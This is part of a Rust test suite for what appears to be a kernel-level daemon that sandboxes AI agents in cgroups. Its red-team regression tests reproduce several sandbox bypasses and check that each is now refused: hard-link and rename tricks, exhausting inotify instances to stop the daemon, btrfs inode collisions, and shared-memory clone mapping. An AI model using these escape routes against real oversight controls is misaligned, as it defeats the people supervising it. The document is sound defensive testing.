}

/// Red team round 4, F3: an agent whose files are an allowlist (`defaults: { file: block }`)
/// may not give an object the default refuses a name below an allowed directory: a hard link
/// (also through /proc/self/fd), a rename of the file or of its directory, RENAME_EXCHANGE.
/// Each is refused as the default. Within the allowed directory links and renames work; outside
/// the agent all of them work.
#[test]
fn a_file_allowlist_agent_may_not_name_blocked_objects_into_allowed_directories() {
    require_root();
    let fx = Fixture::new("allownames");
    // Before the load: an allowed directory's identity is what the new names are judged by.
    std::fs::create_dir_all(fx.p("private")).unwrap();
    std::fs::write(fx.p("private/db.txt"), "customer-db\n").unwrap();
    std::fs::create_dir_all(fx.p("work/sub")).unwrap();
    std::fs::write(fx.p("work/mine.txt"), "mine").unwrap();
    let d = fx.dir.display();
    let mut k = install(&format!(
        "name: allownames\n\
         agents: {{ cgroup: {agent} }}\n\
         defaults: {{ file: block }}\n\
         rules:\n\
         \x20 - {{ id: work, file: {{ prefix: {d}/work }}, verdict: allow, reason: the workspace }}\n",
        agent = fx.agent.rel.display(),
    ));
    k.require("inode_link");
    k.require("inode_rename");
    let (link, rename, exchange, fd_link) = (0, 1, 2, 3);
    let (link_op, rename_op) = (
        governance_common::LINK_OP_LINK,
        governance_common::LINK_OP_RENAME,
    );
    // The default refuses the open.
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&fx.p("private/db.txt"), libc::O_RDONLY),
    );
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "the default refuses");
    for (case, op, from, to, record, absent) in [
        (
            "F3 a file-allowlist agent hard-links a blocked file into an allowed directory",
            link,
            "private/db.txt",
            "work/x",
            link_op,
            "work/x",
        ),
        (
            "F3 a file-allowlist agent links a blocked file in through /proc/self/fd",
            fd_link,
            "private/db.txt",
            "work/x2",
            link_op,
            "work/x2",
        ),
        (
            "F3 a file-allowlist agent renames a blocked file into an allowed directory",
            rename,
            "private/db.txt",
            "work/db.txt",
            rename_op,
            "work/db.txt",
        ),
        (
            "F3 a file-allowlist agent renames a blocked directory into an allowed directory",
            rename,
            "private",
            "work/p",
            rename_op,
            "work/p",
        ),
        (
            "F3 a file-allowlist agent exchanges an allowed file with a blocked one",
            exchange,
            "work/mine.txt",
            "private/db.txt",
            rename_op,
            "work/nothing",
        ),
    ] {
        let attempt = new_name(None, op, &fx.p(from), &fx.p(to));
        denied_new_name(
            &mut k,
            &fx,
            case,
            &attempt,
            record,
            Cause::Default,
            false,
            &fx.p(absent),
        );
        // The control: outside the agent (and each goes back).
        let (pid, outcome) = run_in(Some(&fx.outsider.path), "outsider", &attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        assert!(k.try_event_for(pid, Duration::from_millis(100)).is_none());
        match op {
            0 | 3 => std::fs::remove_file(fx.p(to)).unwrap(),
            _ => {
                let back = new_name(None, op, &fx.p(to), &fx.p(from));
                let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &back);
                assert_eq!(outcome, Outcome::Exited(0), "{case}: back");
            }
        }
        println!("redteam: control {case}");
    }
    assert_eq!(
        std::fs::read_to_string(fx.p("private/db.txt")).unwrap(),
        "customer-db\n"
    );
    // Within the allowed directory the agent names what it likes.
    for (case, op, from, to) in [
        ("link inside work", link, "work/mine.txt", "work/sub/link"),
        ("rename inside work", rename, "work/sub/link", "work/moved"),
        (
            "rename a directory inside work",
            rename,
            "work/sub",
            "work/sub2",
        ),
        ("exchange inside work", exchange, "work/moved", "work/sub2"),
    ] {
        allowed_new_name(&fx, case, &new_name(None, op, &fx.p(from), &fx.p(to)));
    }
}

/// A process in a cgroup that takes every inotify instance its user may still have, each time
/// it is told to, and holds them until dropped (a root agent using up root's per-user count).
struct InotifyHolder {
    pid: libc::pid_t,
    cmd: std::fs::File,
    counts: std::fs::File,
}

impl InotifyHolder {
    fn start(cgroup: &Path) -> Self {
        use std::os::fd::{AsRawFd as _, FromRawFd as _, IntoRawFd as _};
        let procs = cstr(&cgroup.join("cgroup.procs"));
        let (cmd_r, cmd_w) = nix::unistd::pipe().unwrap();
        let (cnt_r, cnt_w) = nix::unistd::pipe().unwrap();
        let (cmd_r, cnt_w) = (cmd_r.as_raw_fd(), cnt_w.as_raw_fd());
        // SAFETY: the child makes only async-signal-safe calls (open, write, read,
        // inotify_init1, _exit) on what was made before the fork.
        let pid = unsafe { libc::fork() };
        assert!(pid >= 0, "fork");
        if pid == 0 {
            unsafe {
                let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
                if fd < 0 || libc::write(fd, b"0".as_ptr().cast(), 1) != 1 {
                    libc::_exit(2);
                }
                libc::close(fd);
                let mut byte = 0u8;
                while libc::read(cmd_r, (&raw mut byte).cast(), 1) == 1 {
                    let mut n: u32 = 0;
                    while libc::inotify_init1(libc::IN_CLOEXEC) >= 0 {
                        n += 1;
                    }
                    let errno = *libc::__errno_location() as u32;
                    let report = [n.to_ne_bytes(), errno.to_ne_bytes()].concat();
                    libc::write(cnt_w, report.as_ptr().cast(), report.len());
                }
                libc::_exit(0);
            }
        }
        Self {
            pid,
            cmd: std::fs::File::from(cmd_w),
            // SAFETY: the read end is ours alone from here.
            counts: unsafe { std::fs::File::from_raw_fd(cnt_r.into_raw_fd()) },
        }
    }

    /// Take what is left: (instances taken, the errno that stopped it).
    fn grab(&mut self) -> (u32, i32) {
        use std::io::{Read as _, Write as _};
        self.cmd.write_all(b"g").unwrap();
        let mut report = [0u8; 8];
        self.counts.read_exact(&mut report).unwrap();
        let n = u32::from_ne_bytes(report[..4].try_into().unwrap());
        let errno = u32::from_ne_bytes(report[4..].try_into().unwrap());
        (n, errno as i32)
    }
}

impl Drop for InotifyHolder {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.pid),
            nix::sys::signal::SIGKILL,
        );
        let _ = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(self.pid), None);
    }
}

/// Red team round 15: inotify instances are counted per user, so an agent running as root that
/// held every one root may have (128 by default) left the daemon none; the next cgroup change
/// made it watch the tree anew, that failed, and the error stopped the daemon, leaving every
/// agent made afterwards ungoverned. Now the daemon keeps its watches' instances (a cgroup made
/// while an agent holds the rest is seen as before), and a start that can make none looks at
/// the tree once a second instead. Each new agent's blocked exec is refused, with its event;
/// control: a cgroup the selector does not match runs it.
#[test]
fn an_agent_holding_every_inotify_instance_does_not_stop_the_daemon() {
    require_root();
    let fx = Fixture::new("inotify");
    let parent = TestCgroup::new("inotify");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("p.yaml"),
        format!(
            "name: inotify\n\
             agents: {{ cgroup: {}/agent-* }}\n\
             rules:\n\
             \x20 - {{ id: exfil, exec: {{ path: {} }}, verdict: block, reason: exfiltration tool }}\n",
            parent.rel.display(),
            fx.p("blocked/true").display()
        ),
    )
    .unwrap();
    let first = parent.child("agent-1");
    let mut holder = InotifyHolder::start(&first);
    let pins = shared_pins();
    let pins_arg = pins.to_str().unwrap().to_owned();
    let args = ["--no-create-cgroups", "--pins", pins_arg.as_str()];
    let blocked = Attempt::exec(&fx.p("blocked/true"), "true");
    let refused_in = |daemon: &governance_tests::Daemon, cgroup: &Path, case: &str| {
        println!("redteam: tried {case}");
        let (pid, outcome) = run_in(Some(cgroup), "agent", &blocked);
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
        let record = governance_tests::wait_for_value(
            &format!("{case}: the decision in the audit log"),
            Duration::from_secs(60),
            || {
                governance_tests::audit_records(&daemon.audit())
                    .into_iter()
                    .find(|r| r["process"]["pid"] == pid)
            },
        );
        assert_eq!(record["outcome"], "block", "{case}: {record:#}");
        assert_eq!(record["rule"], "inotify/exfil", "{case}: {record:#}");
        println!("redteam: denied {case}");
    };
    let (daemon, seen) = start_daemon(&args, &dir);
    let next = governance_tests::first_generation(&seen) + 1;
    let (taken, errno) = holder.grab();
    assert_eq!(errno, libc::EMFILE, "the agent took {taken} instances");
    assert!(taken > 0);
    // A cgroup change while the agent holds every instance left: the daemon stays, and the
    // new agent is governed.
    let second = parent.child("agent-2");
    daemon.wait_for(&format!("generation {next} is enforcing"));
    refused_in(
        &daemon,
        &second,
        "R15 a new agent while another holds root's inotify instances",
    );
    let other = parent.child("other");
    let (_, outcome) = run_in(Some(&other), "other", &blocked);
    assert_eq!(outcome, Outcome::Exited(0), "control: no agent");
    stop_daemon(daemon);
    // A start while the agent holds them all (those the stopped daemon let go of too).
    let (taken, errno) = holder.grab();
    assert_eq!(errno, libc::EMFILE, "the agent took {taken} more instances");
    let (daemon, _) = start_daemon(&args, &dir);
    daemon.wait_for("watching the cgroup tree: inotify_init");
    let third = parent.child("agent-3");
    daemon.wait_for("is enforcing (the agent cgroups changed)");
    refused_in(
        &daemon,
        &third,
        "R15 a new agent after a start that could make no watch",
    );
    drop(holder);
    stop_daemon(daemon);
}

/// Red team round 33: btrfs subvolumes share one superblock device and each numbers its files
/// on its own, so identities keyed on the superblock's device named several files: a file of
/// one subvolume ran as another subvolume's allowed program under an exec allowlist, and a
/// directory's rule reached every other subvolume's directory with its inode number. Both
/// sides now key a btrfs file on its subvolume's device (the programs read it from the btrfs
/// inode, at offsets from the btrfs module's BTF, which the VM loads at boot); a walk up from a
/// file takes each level's own subvolume's device, and a device marker stays the
/// superblock's. On the VM's btrfs disk, two subvolumes whose files have the same numbers:
/// - an exec allowlist's allowed program runs; the other subvolume's file with its number is
///   refused by the default (it ran before);
/// - a blocked directory's rule does not reach the other subvolume's directory with its
///   number (its file was refused before);
/// - a subvolume nested in the blocked directory, reached through a bind mount of it outside
///   the directory (a name the path rules do not cover), is refused by the directory's
///   identity across the subvolume boundary; controls outside the agent.
#[test]
fn identities_on_btrfs_are_each_subvolume_s() {
    use std::os::unix::fs::MetadataExt as _;
    require_root();
    let fx = Fixture::new("btrfs");
    let fs = governance_tests::Btrfs::mount("vm");
    let (a, b) = (fs.subvolume("a"), fs.subvolume("b"));
    // In each subvolume, in the same order: a directory (257) and a program in it (258).
    std::fs::create_dir(a.join("secret")).unwrap();
    std::fs::create_dir(b.join("data")).unwrap();
    let (tool, other) = (a.join("secret/tool"), b.join("data/other"));
    std::fs::copy(BUSYBOX, &tool).unwrap();
    std::fs::copy(BUSYBOX, &other).unwrap();
    let nested = fs.subvolume("a/secret/nested");
    std::fs::write(nested.join("key"), "nested secret").unwrap();
    let ino = |p: &Path| std::fs::metadata(p).unwrap().ino();
    assert_eq!(
        ino(&a.join("secret")),
        ino(&b.join("data")),
        "the directories' numbers"
    );
    assert_eq!(ino(&tool), ino(&other), "the programs' numbers");
    let view = mount_point(&fx, "tmp/view");
    let bound = std::process::Command::new("mount")
        .arg("--bind")
        .arg(&nested)
        .arg(&view)
        .status()
        .unwrap();
    assert!(bound.success(), "bind-mounting the nested subvolume");
    /// Unmounted however the test ends (before the filesystem is).
    struct Bound(PathBuf);
    impl Drop for Bound {
        fn drop(&mut self) {
            unmount(&self.0);
        }
    }
    let bound = Bound(view.clone());
    let mut k = install(&format!(
        "name: btrfs\n\
         agents: {{ cgroup: {agent} }}\n\
         defaults: {{ exec: block }}\n\
         rules:\n\
         \x20 - {{ id: tool, exec: {{ path: {tool} }}, verdict: allow, reason: the one program }}\n\
         \x20 - {{ id: bb, exec: {{ path: {BUSYBOX} }}, verdict: allow, reason: the helpers }}\n\
         \x20 - {{ id: secret, file: {{ prefix: {secret} }}, verdict: block, reason: secret }}\n",
        agent = fx.agent.rel.display(),
        tool = tool.display(),
        secret = a.join("secret").display(),
    ));
    k.require("bprm_check_security");
    k.require("file_open");
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &Attempt::exec(&tool, "true"));
    assert_eq!(outcome, Outcome::Exited(0), "the allowed program runs");
    let ev = deny(
        &mut k,
        &fx,
        "R33 another btrfs subvolume's file with the allowed program's inode number",
        &Attempt::exec(&other, "true"),
        Kind::Exec,
        Control::Succeeds,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&b.join("data/other"), libc::O_RDONLY),
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "another subvolume's directory with the blocked one's number is not blocked"
    );
    let ev = deny(
        &mut k,
        &fx,
        "R33 a subvolume nested in a blocked directory, through a bind mount outside it",
        &Attempt::open(&view.join("key"), libc::O_RDONLY),
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(3), "the directory's rule");
    drop(k);
    drop(bound);
}

/// Red team round 35: a sandbox rule's program mapped executable puts the mapping process
/// under the profile; the mapping is the memory's, which a child made with clone(CLONE_VM) and
/// no CLONE_THREAD shares with its parent: the child mapped the program, was marked and exited,
/// and the parent ran the code outside the sandbox (run with a loader jump, writing files
/// outside the profile's writable directory). A sandbox mapping by a process whose memory
/// another process shares is refused (`shared-memory-code`); the same mapping by a process of
/// its own is sandboxed and allowed (the control in the agent), and outside the agent the
/// shared one is allowed.
#[test]
fn a_sandboxed_program_is_not_mapped_for_a_process_sharing_memory() {
    require_root();
    let fx = Fixture::new("sharedmm");
    let mut k = fx.load("");
    k.require("mmap_file");
    let path = cstr(&fx.p("allowed/sandboxme"));
    let case = "R35 a sandboxed program mapped by a child sharing its parent's memory";
    println!("redteam: tried {case}");
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::MapExecShared { path: path.clone() },
    );
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}: in the agent");
    let ev = k.event_where(|e| {
        e.agent_cgroup == fx.agent.id()
            && Kind::from_u8(e.kind) == Some(Kind::ExecMap)
            && e.flags & flags::DENIED != 0
    });
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
    assert_eq!(
        ev.port,
        governance_common::exec_map::SHARED_MEMORY,
        "{case}: why"
    );
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::MapExec {
            path: path.clone(),
            mprotect: false,
        },
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "{case}: a process of its own is sandboxed"
    );
    let (_, outcome) = run_in(
        Some(&fx.outsider.path),
        "outsider",
        &Attempt::MapExecShared { path },
    );
    assert_eq!(outcome, Outcome::Exited(0), "{case}: outside the agent");
    println!("redteam: control {case}");
}
